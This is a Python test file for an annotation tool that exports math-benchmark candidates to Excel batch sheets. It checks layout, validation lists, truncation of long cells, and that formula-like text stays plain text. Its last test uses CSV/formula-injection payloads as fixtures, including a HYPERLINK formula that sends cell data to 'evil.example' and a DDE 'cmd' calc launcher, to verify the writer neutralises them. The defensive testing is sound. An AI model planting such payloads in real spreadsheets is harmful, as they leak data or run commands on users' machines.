"""The batch sheet as an annotator opens it: the authors' columns, a frozen header, wrapped text, 0/1 lists
on the label columns, the annotator's name as a document property, and text that stays text."""

from __future__ import annotations

import zipfile
from datetime import UTC, datetime
from pathlib import Path

from openpyxl import load_workbook

from annotator.import_export.formats.batch import COLUMNS
from annotator.labelling.batch_sheets import MAX_CELL_CHARS, write_batch

DEADLINE = datetime(2026, 2, 1, 9, 0, tzinfo=UTC)


def _candidate(**fields: object) -> dict[str, object]:
    row: dict[str, object] = {
        "data_id": "aime_3_remove_1",
        "question": "Let $x = 2$. Find $x^2$.",
        "ground_truth": 142.0,
        "solution": "Square it.",
        "rewritten_question": "Find $x^2$.",
        "rewritten_condition": "$x = 2$",
        "unsolvable_reason": "x is unknown",
        # A resolved label from other annotators: never shown in someone's sheet.
        "human_check": 1,
        "difficulty_eval": 1,
    }
    return {**row, **fields}


def test_the_layout(tmp_path: Path) -> None:
    path = tmp_path / "ann.xlsx"
    candidates = [
        _candidate(),
        _candidate(data_id="minerva_1_contradict_2", ground_truth=["9.6\n"], question="=SUM(A1:A9) is text",
                   solution=None, unsolvable_reason="bell\x07 gone"),
    ]
    write_batch(path, annotator="Ann Lee", candidates=candidates, batch="batch-x", deadline=DEADLINE)
    workbook = load_workbook(path)
    sheet = workbook.active
    # The ReliableMath authors' columns (their `rewritten_condition:` without the colon), then a comment.
    assert [cell.value for cell in sheet[1]] == list(COLUMNS)
    assert COLUMNS[:9] == ("data_id", "question", "ground_truth", "solution", "rewritten_question",
                           "rewritten_condition", "unsolvable_reason", "human_check", "difficulty_eval")
    assert sheet.freeze_panes == "A2" and sheet["A1"].font.bold
    assert all(cell.alignment.wrap_text for row in sheet.iter_rows(min_row=2) for cell in row)
    assert sheet.column_dimensions["B"].width >= 50 and sheet.column_dimensions["H"].width < 20
    rows = list(sheet.iter_rows(min_row=2, values_only=True))
    assert rows[0] == ("aime_3_remove_1", "Let $x = 2$. Find $x^2$.", 142.0, "Square it.", "Find $x^2$.", "$x = 2$",
                       "x is unknown", None, None, None)
    assert rows[1][:4] == ("minerva_1_contradict_2", "=SUM(A1:A9) is text", '["9.6\\n"]', None)
    assert sheet["B3"].data_type == "s"  # a string, not a formula
    assert rows[1][6] == "bell gone"  # a control character Excel cannot store is dropped
    validations = {str(v.sqref): v for v in sheet.data_validations.dataValidation}
    assert set(validations) == {"H2:H3", "I2:I3"}
    assert {(v.type, v.formula1) for v in validations.values()} == {("list", '"0,1"')}
    assert {p.name: p.value for p in workbook.custom_doc_props} == {
        "annotator": "Ann Lee", "batch": "batch-x", "deadline": "2026-02-01T09:00:00+00:00"
    }


def test_a_cell_longer_than_excel_allows_is_cut_with_a_note(tmp_path: Path) -> None:
    path = tmp_path / "ann.xlsx"
    write_batch(path, annotator="ann", candidates=[_candidate(solution="x" * 40_000)], batch="b", deadline=DEADLINE)
    solution = load_workbook(path).active["D2"].value
    assert len(solution) == MAX_CELL_CHARS and solution.endswith("[cut: 40,000 characters, see the app]")


def test_formula_text_is_written_as_a_string_never_a_formula(tmp_path: Path) -> None:
    """Issue 17, item 3: a problem text a spreadsheet would run stays text in the batch sheet, exactly."""
    hostile = {
        "question": '=HYPERLINK("http://evil.example/?q="&A1,"click")',
        "rewritten_question": "+cmd|' /C calc'!A0",
        "unsolvable_reason": "@SUM(1+1)",
        "rewritten_condition": "-2+3",
        "solution": "'=already quoted",
    }
    path = tmp_path / "ann.xlsx"
    write_batch(path, annotator="ann", candidates=[_candidate(**hostile)], batch="b", deadline=DEADLINE)
    sheet = load_workbook(path).active
    cells = {name: sheet.cell(row=2, column=COLUMNS.index(name) + 1) for name in hostile}
    assert {name: cell.value for name, cell in cells.items()} == hostile
    assert {cell.data_type for cell in cells.values()} == {"s"}
    with zipfile.ZipFile(path) as archive:
        assert "<f>" not in archive.read("xl/worksheets/sheet1.xml").decode("utf-8")
